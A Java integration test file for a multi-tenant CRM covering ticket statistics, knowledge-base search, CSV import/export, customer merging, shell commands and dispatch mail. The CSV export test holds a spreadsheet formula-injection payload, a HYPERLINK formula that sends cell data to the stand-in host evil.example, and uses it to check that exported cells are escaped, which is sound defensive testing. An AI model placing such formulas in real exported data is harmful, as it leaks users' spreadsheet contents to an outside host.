        createUser(t, "boss", "[\"supervisor\"]");
        assertEquals(200, op("PUT", "/tenants/" + t + "/ticket-categories", CATEGORIES).status);
        String late = op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"consultation\",\"title\":\"发票问题\"}").json.get("id").asText();
        op("POST", "/tenants/" + t + "/tickets/" + late + "/assign", "{\"userId\":\"" + wu + "\"}");
        String done = op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"consultation\",\"title\":\"当场解决\"}").json.get("id").asText();
        op("POST", "/tenants/" + t + "/tickets/" + done + "/assign", "{\"userId\":\"" + wu + "\"}");
        assertEquals("RESOLVED", op("POST", "/tenants/" + t + "/tickets/" + done + "/transition", "{\"status\":\"RESOLVED\",\"note\":\"已答复\"}")
            .json.get("status").asText());
        op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"repair\",\"title\":\"空调不制冷\"}");
        op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"complaint\",\"title\":\"快递延误\",\"fields\":{\"order_no\":\"A1\"}}");
        op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"complaint\",\"title\":\"态度不好\",\"fields\":{\"order_no\":\"A2\"}}");
        java.time.LocalDate today = java.time.LocalDate.now(java.time.ZoneId.of("Asia/Shanghai"));
        String range = "from=" + today.minusDays(1) + "&to=" + today.plusDays(1);
        expect(get("boss@" + t, PASSWORD, "/tenants/" + t + "/tickets/stats?" + range + "&by=COLOUR"), 400, "by");
        expect(get("boss@" + t, PASSWORD, "/tenants/" + t + "/tickets/stats?from=" + today + "&to=" + today.minusDays(3)), 400, "from");
        assertEquals(403, get("wu@" + t, PASSWORD, "/tenants/" + t + "/tickets/stats?" + range).status);
        ServiceRegistration<java.time.Clock> clock = bundleContext.registerService(java.time.Clock.class,
            java.time.Clock.fixed(java.time.Instant.now().plus(java.time.Duration.ofHours(3)), java.time.ZoneOffset.UTC),
            new java.util.Hashtable<>(java.util.Map.of("seatline.clock", "true")));
        try {
            JsonNode byCategory = get("boss@" + t, PASSWORD, "/tenants/" + t + "/tickets/stats?" + range).json;
            assertEquals(byCategory.toString(), 5, byCategory.get("total").get("created").asLong());
            assertEquals(4, byCategory.get("total").get("open").asLong());
            assertEquals(1, byCategory.get("total").get("resolved").asLong());
            JsonNode consultation = row(byCategory, "consultation");
            assertEquals("咨询", consultation.get("label").asText());
            assertEquals(2, consultation.get("created").asLong());
            // the open consultation is past its 2-hour SLA three hours on; the resolved one was resolved in time
            assertEquals(1, consultation.get("breached").asLong());
            assertEquals(0.5, consultation.get("breachRate").asDouble(), 1e-9);
            assertTrue(consultation.toString(), consultation.get("meanResolutionHours").asDouble() < 0.1);
            // complaints (24 h) are not late yet; the repair (4 business hours) may be, by the clock: not counted here
            assertEquals(2, row(byCategory, "complaint").get("created").asLong());
            assertEquals(0, row(byCategory, "complaint").get("breached").asLong());
            JsonNode byStatus = get("boss@" + t, PASSWORD, "/tenants/" + t + "/tickets/stats?" + range + "&by=STATUS").json;
            assertEquals(1, row(byStatus, "RESOLVED").get("resolved").asLong());
            assertEquals(3, row(byStatus, "NEW").get("created").asLong());
            JsonNode byAgent = get("boss@" + t, PASSWORD, "/tenants/" + t + "/tickets/stats?" + range + "&by=AGENT").json;
            JsonNode wuRow = row(byAgent, wu);
            assertEquals(2, wuRow.get("created").asLong());
            assertEquals(1, wuRow.get("breached").asLong());
            assertEquals(3, row(byAgent, "").get("created").asLong()); // nobody's yet
        } finally {
            clock.unregister();
        }
        String other = createTenant("tsu", 2, 0);
        createUser(other, "boss", "[\"supervisor\"]");
        assertEquals(403, get("boss@" + other, PASSWORD, "/tenants/" + t + "/tickets/stats?" + range).status);
        assertEquals(0, get("boss@" + other, PASSWORD, "/tenants/" + other + "/tickets/stats?" + range).json.get("total").get("created").asLong());
    }

    private static JsonNode row(JsonNode stats, String key) {
        for (JsonNode r : stats.get("rows")) {
            if (key.equals(r.get("key").asText())) {
                return r;
            }
        }
        throw new AssertionError("no row " + key + " in " + stats);
    }

    // ================================================================= knowledge base

    @Test
    public void knowledgeBaseFindsChineseAndEnglishTermsInItsOwnTenantOnly() {
        String t = createTenant("kb", 5, 0);
        String b = createTenant("kbb", 5, 0);
        String refund = op("POST", "/tenants/" + t + "/kb/articles", "{\"category\":\"售后\",\"title\":\"退款多久到账\",\"keywords\":[\"退款\",\"到账\"],"
            + "\"body\":\"申请退款后，款项会在3到5个工作日内退回原支付账户。\"}").json.get("id").asText();
        op("POST", "/tenants/" + t + "/kb/articles", "{\"category\":\"财务\",\"title\":\"如何开具发票\",\"keywords\":[\"发票\"],"
            + "\"body\":\"在订单页面点击申请发票，电子发票会发送到您的邮箱。\"}");
        String delivery = op("POST", "/tenants/" + t + "/kb/articles", "{\"category\":\"Logistics\",\"title\":\"Delivery times\","
            + "\"keywords\":[\"shipping\"],\"body\":\"Parcels are delivered within two working days.\"}").json.get("id").asText();
        op("POST", "/tenants/" + b + "/kb/articles", "{\"category\":\"售后\",\"title\":\"退款规则\",\"body\":\"别家租户的退款文章\"}");

        JsonNode hits = op("GET", "/tenants/" + t + "/kb/search?q=" + enc("退款要多久"), null).json;
        assertEquals(refund, hits.get("items").get(0).get("article").get("id").asText());
        assertTrue(hits.get("items").get(0).get("snippet").asText().contains("退款"));
        assertEquals(delivery, op("GET", "/tenants/" + t + "/kb/search?q=deliveries", null).json.get("items").get(0).get("article").get("id").asText());
        assertEquals(0, op("GET", "/tenants/" + t + "/kb/search?q=" + enc("退款") + "&category=Logistics", null).json.get("total").asInt());
        assertEquals(0, op("GET", "/tenants/" + t + "/kb/search?q=" + enc("保险理赔"), null).json.get("total").asInt());
        expect(op("GET", "/tenants/" + t + "/kb/search?q=", null), 400, "q");
        // tenant B's article is not found from A, nor A's from B
        for (JsonNode h : op("GET", "/tenants/" + t + "/kb/search?q=" + enc("退款"), null).json.get("items")) {
            assertFalse(h.toString(), h.toString().contains("别家租户"));
        }
        assertEquals(1, op("GET", "/tenants/" + b + "/kb/search?q=" + enc("退款"), null).json.get("total").asInt());
        assertEquals(404, op("GET", "/tenants/" + b + "/kb/articles/" + refund, null).status);
        // the editors' list: every article of the company by category then title, paged, and its categories with counts
        JsonNode all = op("GET", "/tenants/" + t + "/kb/articles?limit=2", null).json;
        assertEquals(all.toString(), 3, all.get("total").asInt());
        assertEquals(all.toString(), 2, all.get("items").size());
        assertEquals(all.toString(), "Delivery times", all.get("items").get(0).get("title").asText());
        assertEquals(1, op("GET", "/tenants/" + t + "/kb/articles?category=" + enc("售后"), null).json.get("total").asInt());
        JsonNode kbCategories = op("GET", "/tenants/" + t + "/kb/categories", null).json;
        assertEquals(kbCategories.toString(), 3, kbCategories.size());
        assertEquals(kbCategories.toString(), 1, kbCategories.get("售后").asInt());
        JsonNode theirs = op("GET", "/tenants/" + b + "/kb/articles", null).json;
        assertEquals(theirs.toString(), 1, theirs.get("total").asInt());
        assertEquals("listing opens nothing: no use counted", 0, all.get("items").get(0).get("usage").asInt());

        // a new version is searched, the former one kept; opening and linking count as uses
        assertEquals(2, op("PUT", "/tenants/" + t + "/kb/articles/" + refund, "{\"category\":\"售后\",\"title\":\"退款多久到账\","
            + "\"body\":\"退款将在1到3个工作日内原路退回。\"}").json.get("version").asInt());
        assertEquals(2, op("GET", "/tenants/" + t + "/kb/articles/" + refund + "/versions", null).json.size());
        assertTrue(op("GET", "/tenants/" + t + "/kb/search?q=" + enc("原路退回"), null).json.get("items").get(0).toString().contains(refund));
        assertEquals(1, op("GET", "/tenants/" + t + "/kb/articles/" + refund, null).json.get("usage").asInt());
        assertEquals(200, op("PUT", "/tenants/" + t + "/ticket-categories", CATEGORIES).status);
        String ticket = op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"consultation\",\"title\":\"退款咨询\"}").json.get("id").asText();
        assertEquals(204, op("PUT", "/tenants/" + t + "/kb/articles/" + refund + "/tickets/" + ticket, null).status);
        assertEquals(refund, op("GET", "/tenants/" + t + "/kb/tickets/" + ticket, null).json.get(0).get("id").asText());
        assertEquals(3, op("GET", "/tenants/" + t + "/kb/articles/" + refund, null).json.get("usage").asInt());
        expect(op("POST", "/tenants/" + t + "/kb/articles", "{\"category\":\"x\",\"title\":\"\",\"body\":\"b\"}"), 400, "title");
    }

    // ================================================================= CSV import and export

    @Test
    public void anExportedFormulaIsTextInASpreadsheetAndImportsBackAsWritten() {
        String a = createTenant("csvf", 2, 0);
        String b = createTenant("csvg", 2, 0);
        String evil = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")";
        Answer c = op("POST", "/tenants/" + a + "/customers", "{\"name\":" + json(evil) + ",\"phones\":[\"13800138077\"],"
            + "\"tags\":[\"@SUM(A1:A9)\"]}");
        assertEquals(c.toString(), 201, c.status);
        String exported = exportCsv(a);
        // OWASP: a cell a spreadsheet would evaluate starts with an apostrophe; the phone number stays a number
        assertTrue(exported, exported.contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点我\"\")\""));
        assertTrue(exported, exported.contains("'@SUM(A1:A9)"));
        assertTrue(exported, exported.contains(",+8613800138077,"));
        // and the file imports back as what was exported
        JsonNode copy = awaitImport(b, exported.getBytes(StandardCharsets.UTF_8), false);
        assertEquals(copy.toString(), 1, copy.get("created").asInt());
        JsonNode imported = op("GET", "/tenants/" + b + "/customers", null).json.get("items").get(0);
        assertEquals(evil, imported.get("name").asText());
        assertEquals("@SUM(A1:A9)", imported.get("tags").get(0).asText());
    }

    private static String json(String s) {
        try {
            return new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(s);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    public void csvImportExportRoundTripWithRejectedRowsAndMerge() {
        String a = createTenant("csva", 5, 0);
        String b = createTenant("csvb", 5, 0);
        assertEquals(200, op("PUT", "/tenants/" + a + "/customer-fields", FIELDS).status);
        assertEquals(200, op("PUT", "/tenants/" + b + "/customer-fields", FIELDS).status);
        String csv = "姓名,电话,email,tags,保单号,premium,客户等级\r\n"
            + "张三,13800138000;021-68881234,zhang@example.com,VIP;续保,P-1,1200.50,金卡\r\n"
            + "\"李四, Jr.\",13900139000,,,P-2,,银卡\r\n"
            + "坏号码,12345,,,,,\r\n"
            + "王五,13700137000,,,,很多,\r\n"
            + "重复,13800138000,,,,,\r\n"
            + "赵六,13600136000,,,,,铜卡\r\n";
        JsonNode job = awaitImport(a, csv.getBytes(StandardCharsets.UTF_8), false);
        assertEquals(job.toString(), 6, job.get("total").asInt());
        assertEquals(2, job.get("created").asInt());
        List<Integer> lines = new java.util.ArrayList<>();
        job.get("rejected").forEach(r -> lines.add(r.get("line").asInt()));
        assertEquals("every bad row is reported with its line", List.of(4, 5, 6, 7), lines);
        assertTrue(job.get("rejected").get(0).get("reason").asText().startsWith("phones[0]"));
        assertTrue(job.get("rejected").get(2).get("reason").asText().contains("duplicate"));
        // unknown columns and unreadable files are refused whole
        expect(upload(OPERATOR, OPERATOR_PASSWORD, "/tenants/" + a + "/customers/import", "text/csv", "name,shoe_size\r\nX,42\r\n".getBytes(StandardCharsets.UTF_8)),
            400, "mapping.shoe_size");
        expect(upload(OPERATOR, OPERATOR_PASSWORD, "/tenants/" + a + "/customers/import", "text/csv", new byte[] {(byte) 0xff, (byte) 0xfe, 0, (byte) 0x81}),
            400, "file");

        // export → import into another tenant → the same export
        String exported = exportCsv(a);
        assertTrue(exported.startsWith("\uFEFFname,phones,email,address,language,tags,policy_no,premium,level\r\n"));
        assertTrue(exported, exported.contains("\"李四, Jr.\",+8613900139000"));
        JsonNode copy = awaitImport(b, exported.getBytes(StandardCharsets.UTF_8), false);
        assertEquals(copy.toString(), 2, copy.get("created").asInt());
        assertEquals(0, copy.get("rejected").size());
        assertEquals(exported, exportCsv(b));
        // GBK from Excel on Chinese Windows, merged into the existing customer by phone
        byte[] gbk = "姓名,电话,标签,客户等级\r\n张三丰,+86 138 0013 8000,投诉,银卡\r\n".getBytes(java.nio.charset.Charset.forName("GBK"));
        JsonNode merged = awaitImport(b, gbk, true);
        assertEquals("GBK", merged.get("encoding").asText());
        assertEquals(1, merged.get("merged").asInt());
        assertEquals(0, merged.get("created").asInt());
        JsonNode zhang = op("GET", "/tenants/" + b + "/customers/lookup?phone=13800138000", null).json.get(0);
        assertEquals("张三丰", zhang.get("name").asText());
        assertEquals(2, zhang.get("phones").size());
        assertEquals(List.of("VIP", "续保", "投诉"), List.of(zhang.get("tags").get(0).asText(), zhang.get("tags").get(1).asText(), zhang.get("tags").get(2).asText()));
        assertEquals("银卡", zhang.get("fields").get("level").asText());
        assertEquals("P-1", zhang.get("fields").get("policy_no").asText());
        // agents may not export a tenant's customer base
        createUser(a, "ag", "[\"agent\"]");
        assertEquals(403, exportAs(a, "ag@" + a, PASSWORD).status);
        // nor bulk-import, let alone merge over existing customers: supervisors and admins do
        long before = op("GET", "/tenants/" + a + "/customers", null).json.get("total").asLong();
        byte[] overwrite = "姓名,电话,客户等级\r\n张三,13800138000,铜卡\r\n".getBytes(StandardCharsets.UTF_8);
        assertEquals(403, upload("ag@" + a, "/tenants/" + a + "/customers/import?merge=true", "text/csv", overwrite).status);
        assertEquals(403, upload("ag@" + a, "/tenants/" + a + "/customers/import?merge=false", "text/csv", overwrite).status);
        createUser(a, "sup", "[\"supervisor\"]");
        assertEquals(202, upload("sup@" + a, "/tenants/" + a + "/customers/import?merge=false", "text/csv",
            "姓名,电话\r\n新客户,13500135077\r\n".getBytes(StandardCharsets.UTF_8)).status);
        await().atMost(java.time.Duration.ofSeconds(30)).until(() -> op("GET", "/tenants/" + a + "/customers", null).json.get("total").asLong() == before + 1);
    }

    @Test
    public void duplicatesAreFoundAndMergedWithTheirHistoryAndTickets() {
        String t = createTenant("dup", 5, 0);
        String other = createTenant("dupo", 5, 0);
        assertEquals(200, op("PUT", "/tenants/" + t + "/customer-fields", FIELDS).status);
        assertEquals(200, op("PUT", "/tenants/" + t + "/ticket-categories", CATEGORIES).status);
        String base = "/tenants/" + t + "/customers";
        String c1 = op("POST", base, "{\"name\":\"王芳\",\"phones\":[\"13700137000\"],\"email\":\"wang@example.com\",\"tags\":[\"VIP\"],"
            + "\"fields\":{\"level\":\"金卡\"}}").json.get("id").asText();
        String c2 = op("POST", base, "{\"name\":\"王芳（重复）\",\"phones\":[\"137-0013-7000\",\"13900001111\"],\"tags\":[\"投诉\"],"
            + "\"address\":\"上海市浦东新区\",\"fields\":{\"policy_no\":\"P-9\",\"level\":\"银卡\"}}").json.get("id").asText();
        String c3 = op("POST", base, "{\"name\":\"Fang Wang\",\"email\":\"WANG@example.com\"}").json.get("id").asText();
        op("POST", base, "{\"name\":\"孤单\",\"phones\":[\"13100131000\"]}");
        String foreign = op("POST", "/tenants/" + other + "/customers", "{\"name\":\"别家\",\"phones\":[\"13700137000\"]}").json.get("id").asText();

        // the report: one group per shared phone or e-mail, only of this tenant
        JsonNode dups = op("GET", base + "/duplicates", null).json;
        assertEquals(dups.toString(), 2, dups.get("total").asInt());
        JsonNode byPhone = dups.get("items").get(0);
        assertEquals("PHONE", byPhone.get("kind").asText());
        assertEquals("+8613700137000", byPhone.get("value").asText());
        assertEquals(java.util.Set.of(c1, c2), ids(byPhone.get("customers")));
        JsonNode byEmail = dups.get("items").get(1);
        assertEquals("EMAIL", byEmail.get("kind").asText());
        assertEquals(java.util.Set.of(c1, c3), ids(byEmail.get("customers")));
        assertEquals(1, op("GET", base + "/duplicates?customer=" + c2, null).json.get("total").asInt());
        assertEquals(0, op("GET", "/tenants/" + other + "/customers/duplicates", null).json.get("total").asInt());

        // the duplicate has a note and a ticket
        assertEquals(201, op("POST", base + "/" + c2 + "/notes", "{\"text\":\"客户说上次电话断了\"}").status);
        String ticket = op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"consultation\",\"title\":\"问保单\",\"customerId\":\"" + c2
            + "\"}").json.get("id").asText();

        // bad merges change nothing
        createUser(t, "ag", "[\"agent\"]");
        assertEquals(403, post("ag@" + t, PASSWORD, base + "/" + c1 + "/merge", "{\"source\":\"" + c2 + "\"}").status);
        expect(op("POST", base + "/" + c1 + "/merge", "{\"source\":\"" + c1 + "\"}"), 400, "source");
        expect(op("POST", base + "/" + c1 + "/merge", "{}"), 400, "source");
        assertEquals(404, op("POST", base + "/" + c1 + "/merge", "{\"source\":\"" + foreign + "\"}").status);
        assertEquals(200, op("GET", base + "/" + c2, null).status);

        Answer merged = op("POST", base + "/" + c1 + "/merge", "{\"source\":\"" + c2 + "\"}");
        assertEquals(merged.toString(), 200, merged.status);
        assertEquals(2, merged.json.get("movedInteractions").asInt());
        assertEquals(1, merged.json.get("movedTickets").asInt());
        JsonNode fang = op("GET", base + "/" + c1, null).json;
        assertEquals("the survivor keeps its own name", "王芳", fang.get("name").asText());
        assertEquals(java.util.Set.of("+8613700137000", "+8613900001111"), texts(fang.get("phones")));
        assertEquals(List.of("VIP", "投诉"), List.of(fang.get("tags").get(0).asText(), fang.get("tags").get(1).asText()));
        assertEquals("its own values win", "金卡", fang.get("fields").get("level").asText());
        assertEquals("gaps are filled from the duplicate", "P-9", fang.get("fields").get("policy_no").asText());
        assertEquals("上海市浦东新区", fang.get("address").asText());
        assertEquals(404, op("GET", base + "/" + c2, null).status);
        assertEquals(c1, op("GET", base + "/lookup?phone=13900001111", null).json.get(0).get("id").asText());
        assertEquals(c1, op("GET", "/tenants/" + t + "/tickets/" + ticket, null).json.get("customerId").asText());
        assertTrue(op("GET", "/tenants/" + t + "/tickets/" + ticket + "/changes", null).json.toString().contains("\"CUSTOMER\""));
        String history = op("GET", base + "/" + c1 + "/history", null).json.toString();
        assertTrue(history, history.contains("客户说上次电话断了") && history.contains("\"MERGE\"") && history.contains("问保单"));
        // the phone group is gone, the e-mail group is left; the other tenant's customer is untouched
        JsonNode after = op("GET", base + "/duplicates", null).json;
        assertEquals(after.toString(), 1, after.get("total").asInt());
        assertEquals("EMAIL", after.get("items").get(0).get("kind").asText());
        assertEquals(200, op("GET", "/tenants/" + other + "/customers/" + foreign, null).status);
        assertTrue(op("GET", "/tenants/" + t + "/audit?limit=100", null).json.toString().contains("customer.merge"));
    }

    @Test
    public void shellCommandsListCustomersTicketsKnowledgeAndTheBlacklist() {
        String t = createTenant("crmsh", 5, 0);
        assertEquals(200, op("PUT", "/tenants/" + t + "/ticket-categories", CATEGORIES).status);
        String base = "/tenants/" + t + "/customers";
        String keep = op("POST", base, "{\"name\":\"陈静\",\"phones\":[\"13500135000\"]}").json.get("id").asText();
        String dup = op("POST", base, "{\"name\":\"陈静 Chen\",\"phones\":[\"+86 135 0013 5000\"],\"email\":\"chen@example.com\"}")
            .json.get("id").asText();
        String out = shell(sessions, "seatline:customer-list -q 陈 " + t);
        assertTrue(out, out.contains(keep) && out.contains(dup) && out.contains("2 of 2 customers"));
        out = shell(sessions, "seatline:customer-list -e chen@example.com " + t);
        assertTrue(out, out.contains(dup) && !out.contains(keep));
        out = shell(sessions, "seatline:customer-duplicates " + t);
        assertTrue(out, out.contains("+8613500135000") && out.contains(keep) && out.contains(dup));
        op("POST", "/tenants/" + t + "/tickets", "{\"category\":\"consultation\",\"title\":\"咨询套餐资费\",\"customerId\":\"" + dup + "\"}");
        out = shell(sessions, "seatline:customer-merge " + t + " " + keep + " " + dup);
        assertTrue(out, out.contains("1 tickets moved"));
        assertEquals(404, op("GET", base + "/" + dup, null).status);
        assertTrue(shell(sessions, "seatline:customer-merge " + t + " " + keep + " " + keep).contains("same_customer (source)"));

        out = shell(sessions, "seatline:ticket-list " + t);
        assertTrue(out, out.contains("咨询套餐资费") && out.contains("NEW") && out.contains("1 of 1 tickets"));
        assertTrue(shell(sessions, "seatline:ticket-list --overdue " + t).contains("0 of 0 tickets"));
        assertTrue(shell(sessions, "seatline:ticket-list -s CLOSED " + t).contains("0 of 0 tickets"));
        assertTrue(shell(sessions, "seatline:ticket-remind").contains("reminders sent"));

        op("POST", "/tenants/" + t + "/kb/articles", "{\"category\":\"资费\",\"title\":\"国际漫游怎么收费\",\"keywords\":[\"漫游\"],"
            + "\"body\":\"出国前请开通国际漫游，按天计费。\"}");
        out = shell(sessions, "seatline:kb-search " + t + " 漫游 收费");
        assertTrue(out, out.contains("国际漫游怎么收费") && out.contains("1 articles match"));
        assertTrue(shell(sessions, "seatline:kb-search " + t + " 理赔").contains("0 articles match"));

        out = shell(sessions, "seatline:blacklist-add -t " + t + " -m --note 骚扰电话 13900000666");
        assertTrue(out, out.contains("+8613900000666") && out.contains("MESSAGE"));
        assertTrue(op("GET", "/tenants/" + t + "/blacklist", null).json.toString().contains("+8613900000666"));
        assertTrue(shell(sessions, "seatline:blacklist-list -t " + t).contains("骚扰电话"));
        assertTrue(shell(sessions, "seatline:blacklist-add --note spam +442071838750").contains("every tenant"));
        assertTrue(shell(sessions, "seatline:blacklist-list").contains("+442071838750"));
        assertTrue(shell(sessions, "seatline:blacklist-remove +442071838750").contains("Unblocked"));
        assertFalse(shell(sessions, "seatline:blacklist-list").contains("+442071838750"));
        assertTrue(shell(sessions, "seatline:blacklist-remove -t " + t + " 13900000666").contains("Unblocked"));
        assertTrue(shell(sessions, "seatline:blacklist-add -t " + t + " 12").contains("Error executing command"));
        String audit = op("GET", "/tenants/" + t + "/audit?limit=100", null).json.toString();
        assertTrue(audit, audit.contains("console:") && audit.contains("customer.merge") && audit.contains("blacklist.add"));
    }

    @Test
    public void dispatchedTicketLinkIsMailedToTheDepartment() throws Exception {
        String t = createTenant("mail", 5, 0);
        assertEquals(200, op("PUT", "/tenants/" + t + "/ticket-categories", CATEGORIES).status);
        createUser(t, "sup", "[\"supervisor\"]");
        String sup = "sup@" + t;
        String id = post(sup, PASSWORD, "/tenants/" + t + "/tickets", "{\"category\":\"repair\",\"title\":\"空调不制冷\","
            + "\"description\":\"客户家中空调 3 天不制冷\"}").json.get("id").asText();
        // no SMTP server configured: the dispatch works and says so; the link is in the answer
        Answer plain = post(sup, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/dispatch", "{\"department\":\"维修部\",\"email\":\"fix@example.com\"}");
        assertEquals(plain.toString(), 200, plain.status);
        assertEquals("NO_MAIL_SERVER", plain.json.get("mail").asText());
        // the link opens the console's page for the department, which reads the ticket through the API's public paths
        assertTrue(plain.json.get("link").asText().endsWith("/console/dispatch/" + plain.json.get("token").asText()));

        org.osgi.service.cm.Configuration mailCfg = configAdmin().getConfiguration("seatline.mail", null);
        // a real SMTP server (GreenMail in its own process), accepting mail from the moment start() returns
        try (MailSink smtp = MailSink.start()) {
            java.util.Hashtable<String, Object> props = new java.util.Hashtable<>();
            props.put("smtp.host", "127.0.0.1");
            props.put("smtp.port", Integer.toString(smtp.smtpPort()));
            props.put("from", "crm@seatline.test");
            mailCfg.update(props);
            await().atMost(Duration.ofSeconds(30)).until(() -> {
                org.osgi.framework.ServiceReference<io.seatline.core.Mailer> r = bundleContext.getServiceReference(io.seatline.core.Mailer.class);
                return r != null && bundleContext.getService(r).configured();
            });
            Answer d = post(sup, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/dispatch", "{\"department\":\"维修部\",\"email\":\"fix@example.com\","
                + "\"validHours\":24}");
            assertEquals(d.toString(), 200, d.status);
            assertEquals("SENDING", d.json.get("mail").asText());
            javax.mail.internet.MimeMessage m = firstMail(smtp, sup, "/tenants/" + t + "/tickets/" + id + "/changes");
            assertEquals("fix@example.com", m.getRecipients(javax.mail.Message.RecipientType.TO)[0].toString());
            assertEquals("crm@seatline.test", m.getFrom()[0].toString());
            assertTrue(m.getSubject(), m.getSubject().contains("派发给维修部") && m.getSubject().contains("空调不制冷"));
            assertTrue(m.getContentType(), m.getContentType().equalsIgnoreCase("text/plain; charset=UTF-8"));
            String body = new String(m.getInputStream().readAllBytes(), StandardCharsets.UTF_8);   // transfer encoding undone
            String link = d.json.get("link").asText();
            assertTrue(body, body.contains(link) && body.contains("客户家中空调 3 天不制冷") && body.contains("No login is needed"));
            // the department opens the mailed link without a login; only the latest dispatch's link works
            String token = link.substring(link.lastIndexOf('/') + 1);
            assertEquals(200, send(null, null, "GET", "/public/tickets/" + token, null).status);
            await().atMost(Duration.ofSeconds(30)).until(() -> get(sup, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/changes").json.toString()
                .contains("\"MAILED\""));

            // the server goes away: the dispatch still works, the trail says MAIL_FAILED and the dispatcher is told
            smtp.close();
            assertEquals("SENDING", post(sup, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/dispatch", "{\"department\":\"售后部\","
                + "\"email\":\"after@example.com\"}").json.get("mail").asText());
            await().atMost(Duration.ofSeconds(60)).until(() -> get(sup, PASSWORD, "/tenants/" + t + "/tickets/" + id + "/changes").json.toString()
                .contains("\"MAIL_FAILED\""));
            String notes = get(sup, PASSWORD, "/tenants/" + t + "/me/notifications").json.toString();
            assertTrue(notes, notes.contains("DISPATCH_MAIL_FAILED") && notes.contains("after@example.com"));
        } finally {
            mailCfg.delete();
        }
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            org.osgi.framework.ServiceReference<io.seatline.core.Mailer> r = bundleContext.getServiceReference(io.seatline.core.Mailer.class);
            return r != null && !bundleContext.getService(r).configured();
        });
    }

    /**
     * The first mail {@code smtp} received (within 30 s), parsed; fails at once, with the ticket's trail ({@code changes}) and
     * the server's log, when the trail says the mail failed.
     */
    private javax.mail.internet.MimeMessage firstMail(MailSink smtp, String login, String changes) throws javax.mail.MessagingException {
        try {
            await().atMost(Duration.ofSeconds(30)).until(() -> {
                if (!smtp.messages().isEmpty()) {
                    return true;
                }
                String trail = get(login, PASSWORD, changes).json.toString();
                if (trail.contains("\"MAIL_FAILED\"")) {
                    throw new AssertionError("the mail failed: " + trail + "\n" + smtp.tail());
                }
                return false;
            });
        } catch (org.awaitility.core.ConditionTimeoutException e) {
            throw new AssertionError("no mail reached the SMTP server in 30 s; the ticket's trail: " + get(login, PASSWORD, changes).json + "\n"
                + smtp.tail(), e);
        }
        // GreenMail hands each mail over as one char per byte
        byte[] raw = smtp.messages().get(0).getBytes(StandardCharsets.ISO_8859_1);
        return new javax.mail.internet.MimeMessage(javax.mail.Session.getInstance(new java.util.Properties()), new java.io.ByteArrayInputStream(raw));
    }

    private org.osgi.service.cm.ConfigurationAdmin configAdmin() {
        return bundleContext.getService(bundleContext.getServiceReference(org.osgi.service.cm.ConfigurationAdmin.class));
    }

    private static java.util.Set<String> ids(JsonNode customers) {
        java.util.Set<String> out = new java.util.HashSet<>();
        customers.forEach(c -> out.add(c.get("id").asText()));
        return out;
    }

    private static java.util.Set<String> texts(JsonNode array) {
        java.util.Set<String> out = new java.util.HashSet<>();
        array.forEach(c -> out.add(c.asText()));
        return out;
    }

    private JsonNode awaitImport(String tenant, byte[] csv, boolean merge) {
        Answer started = upload(OPERATOR, OPERATOR_PASSWORD, "/tenants/" + tenant + "/customers/import?merge=" + merge, "text/csv", csv);
        assertEquals(started.toString(), 202, started.status);
        String id = started.json.get("id").asText();
        await().atMost(Duration.ofSeconds(30)).until(() -> !"RUNNING".equals(op("GET", "/tenants/" + tenant + "/customer-imports/" + id, null)
            .json.get("status").asText()));
        JsonNode done = op("GET", "/tenants/" + tenant + "/customer-imports/" + id, null).json;
        assertEquals(done.toString(), "DONE", done.get("status").asText());
        return done;
    }

    private String exportCsv(String tenant) {
        Answer a = exportAs(tenant, OPERATOR, OPERATOR_PASSWORD);
        assertEquals(a.toString(), 200, a.status);
        return a.body;
    }

    private Answer exportAs(String tenant, String login, String password) {
        return sendRequest(java.net.http.HttpRequest.newBuilder(java.net.URI.create(baseUrl() + "/tenants/" + tenant + "/customers/export"))
            .header("Authorization", basicAuth(login, password)).header("Accept", "text/csv").build());
    }

    private Answer upload(String login, String path, String type, byte[] data) {
        return upload(login, PASSWORD, path, type, data);
    }

    private Answer upload(String login, String password, String path, String type, byte[] data) {
        return sendRequest(java.net.http.HttpRequest.newBuilder(java.net.URI.create(baseUrl() + path)).header("Authorization", basicAuth(login, password))
            .header("Content-Type", type).header("Accept", "application/json").POST(java.net.http.HttpRequest.BodyPublishers.ofByteArray(data)).build());
    }

    private byte[] download(String login, String path) {
        try {
            java.net.http.HttpResponse<byte[]> r = java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder(
                java.net.URI.create(baseUrl() + path)).header("Authorization", basicAuth(login, PASSWORD)).build(),
                java.net.http.HttpResponse.BodyHandlers.ofByteArray());
            assertEquals(200, r.statusCode());
            return r.body();
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    private static void expect(Answer a, int status, String field) {
        assertEquals(a.toString(), status, a.status);
        assertTrue(a.toString(), a.json.has("field"));
        assertEquals(a.toString(), field, a.json.get("field").asText());
    }
}
